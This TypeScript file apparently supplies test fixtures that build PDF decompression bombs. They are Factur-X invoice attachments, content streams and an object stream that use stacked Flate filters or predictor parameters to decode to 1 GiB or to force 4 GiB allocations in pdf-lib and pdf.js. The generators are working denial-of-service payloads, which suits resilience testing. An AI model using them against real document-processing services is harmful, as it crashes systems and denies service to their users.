/**
 * Decompression bombs, built in milliseconds without ever holding what they decode to: a zlib stream
 * of N bytes of spaces is one compressed megabyte repeated (deflate segments ended by a full flush
 * are independent and byte-aligned, so they concatenate), closed by an empty final block and the
 * adler-32 of the whole, computed arithmetically.
 */
import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFRef, PDFString, StandardFonts } from 'pdf-lib'

const MB = 1024 * 1024

/** zlib data inflating to `prefix` then `totalMb` MiB of spaces (about 1 KB per MiB). */
export function spacesZlib(totalMb: number, prefix = ''): Uint8Array {
  const segment = deflateRawSync(Buffer.alloc(MB, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const lead = prefix ? [deflateRawSync(Buffer.from(prefix, 'latin1'), { finishFlush: constants.Z_FULL_FLUSH })] : []
  const final = deflateRawSync(Buffer.alloc(0))
  const mod = 65521n
  let a = 1n
  let b = 0n
  for (const c of Buffer.from(prefix, 'latin1')) {
    a = (a + BigInt(c)) % mod
    b = (b + a) % mod
  }
  const n = BigInt(totalMb) * BigInt(MB)
  b = (b + n * a + 0x20n * ((n * (n + 1n)) / 2n)) % mod
  a = (a + n * 0x20n) % mod
  const adler = Buffer.alloc(4)
  adler.writeUInt32BE(Number((b << 16n) | a))
  return new Uint8Array(Buffer.concat([Buffer.from([0x78, 0xda]), ...lead, ...Array.from({ length: totalMb }, () => segment), final, adler]))
}

/** Flate of Flate: `totalMb` MiB of spaces in a few kilobytes. */
export function doubleFlate(totalMb: number): Uint8Array {
  return new Uint8Array(deflateSync(spacesZlib(totalMb), { level: 9 }))
}

export const GIB_MB = 1024

async function onePage(): Promise<PDFDocument> {
  const doc = await PDFDocument.create()
  const page = doc.addPage([595, 842])
  page.drawText('Facture 471102', { x: 50, y: 800, size: 12, font: await doc.embedFont(StandardFonts.Helvetica) })
  return doc
}

/** A one-page PDF whose Factur-X attachment is the given raw stream (dictionary entries as given). */
export async function attachmentStream(data: Uint8Array, dict: Record<string, unknown>, filename = 'factur-x.xml'): Promise<Uint8Array> {
  const doc = await onePage()
  const ctx = doc.context
  const stream = ctx.stream(data, { Type: 'EmbeddedFile', Subtype: 'text/xml', ...dict } as never)
  const streamRef = ctx.register(stream)
  const spec = ctx.register(ctx.obj({ Type: 'Filespec', F: PDFString.of(filename), UF: PDFString.of(filename), AFRelationship: 'Data', EF: { F: streamRef, UF: streamRef } }))
  doc.catalog.set(PDFName.of('AF'), ctx.obj([spec]))
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ EmbeddedFiles: ctx.obj({ Names: [PDFString.of(filename), spec] }) }))
  return doc.save()
}

/** Factur-X attachment stacking two Flate filters, decoding to 1 GiB (the 3.5 KB file). */
export function embeddedDoubleFlateBomb(): Promise<Uint8Array> {
  return attachmentStream(doubleFlate(GIB_MB), { Filter: ['FlateDecode', 'FlateDecode'] })
}

/** Factur-X attachment with a /DecodeParms predictor: a 1 GiB Flate stream pdf-lib decoded unbounded. */
export function embeddedPredictorBomb(): Promise<Uint8Array> {
  return attachmentStream(spacesZlib(GIB_MB), { Filter: 'FlateDecode', DecodeParms: { Predictor: 12, Columns: 1023 } })
}

/** A predictor whose rows are absurdly wide: pdf.js allocates a whole row (here 4 GiB) for a few input bytes. */
export function embeddedPredictorRowBomb(): Promise<Uint8Array> {
  return attachmentStream(new Uint8Array(deflateSync(Buffer.from([2, 0, 0, 0]))), { Filter: 'FlateDecode', DecodeParms: { Predictor: 12, Colors: 4, BitsPerComponent: 16, Columns: 2 ** 29 } })
}

/** A page whose content stream is a filter chain (ASCIIHex, then Flate twice) decoding to 1 GiB. */
export async function contentChainBomb(): Promise<Uint8Array> {
  const doc = await onePage()
  const hex = new TextEncoder().encode(Buffer.from(doubleFlate(GIB_MB)).toString('hex') + '>')
  const stream = doc.context.stream(hex, { Filter: ['ASCIIHexDecode', 'FlateDecode', 'FlateDecode'] } as never)
  doc.getPage(0).node.set(PDFName.of('Contents'), doc.context.register(stream))
  return doc.save()
}

/**
 * An object stream (double Flate, 1 GiB) holding the page's resources, added by a hand-written
 * incremental update (the page redefined, a cross-reference stream pointing its /Resources object
 * into the object stream): pdf-lib decodes every object stream on load, pdf.js this one to read the page.
 */
export async function objectStreamBomb(): Promise<Uint8Array> {
  const doc = await onePage()
  const page = doc.getPage(0)
  const pageRef = page.ref
  const base = Buffer.from(await doc.save({ useObjectStreams: false }))
  const tail = base.toString('latin1')
  const trailer = tail.slice(tail.lastIndexOf('trailer'))
  const size = Number(/\/Size (\d+)/.exec(trailer)![1])
  const root = /\/Root (\d+ \d+ R)/.exec(trailer)![1]
  const prev = Number(/startxref\s+(\d+)/.exec(tail.slice(tail.lastIndexOf('startxref')))![1])
  const [objStmNum, xrefNum, hiddenNum] = [size, size + 1, size + 2]
  const header = `${hiddenNum} 0 `
  const data = deflateSync(spacesZlib(GIB_MB, `${header}<< >>`), { level: 9 })
  const parts: Buffer[] = [base, Buffer.from('\n')]
  let offset = base.length + 1
  const offsets = new Map<number, number>()
  const add = (num: number, buf: Buffer) => {
    offsets.set(num, offset)
    parts.push(buf)
    offset += buf.length
  }
  page.node.set(PDFName.of('Resources'), PDFRef.of(hiddenNum))
  const pageText = `${pageRef.objectNumber} 0 obj\n${page.node.toString()}\nendobj\n`
  add(pageRef.objectNumber, Buffer.from(pageText, 'latin1'))
  add(
    objStmNum,
    Buffer.concat([
      Buffer.from(`${objStmNum} 0 obj\n<< /Type /ObjStm /N 1 /First ${header.length} /Filter [/FlateDecode /FlateDecode] /Length ${data.length} >>\nstream\n`, 'latin1'),
      data,
      Buffer.from('\nendstream\nendobj\n', 'latin1'),
    ]),
  )
  const xrefOffset = offset
  offsets.set(xrefNum, xrefOffset)
  const rows: Buffer[] = []
  const row = (type: number, f2: number, f3: number) => {
    const r = Buffer.alloc(7)
    r.writeUInt8(type, 0)
    r.writeUInt32BE(f2, 1)
    r.writeUInt16BE(f3, 5)
    rows.push(r)
  }
  row(1, offsets.get(pageRef.objectNumber)!, 0)
  row(1, offsets.get(objStmNum)!, 0)
  row(1, xrefOffset, 0)
  row(2, objStmNum, 0)
  const table = Buffer.concat(rows)
  add(
    xrefNum,
    Buffer.concat([
      Buffer.from(`${xrefNum} 0 obj\n<< /Type /XRef /Size ${hiddenNum + 1} /Index [${pageRef.objectNumber} 1 ${objStmNum} 3] /W [1 4 2] /Root ${root} /Prev ${prev} /Length ${table.length} >>\nstream\n`, 'latin1'),
      table,
      Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
    ]),
  )
  return new Uint8Array(Buffer.concat(parts))
}
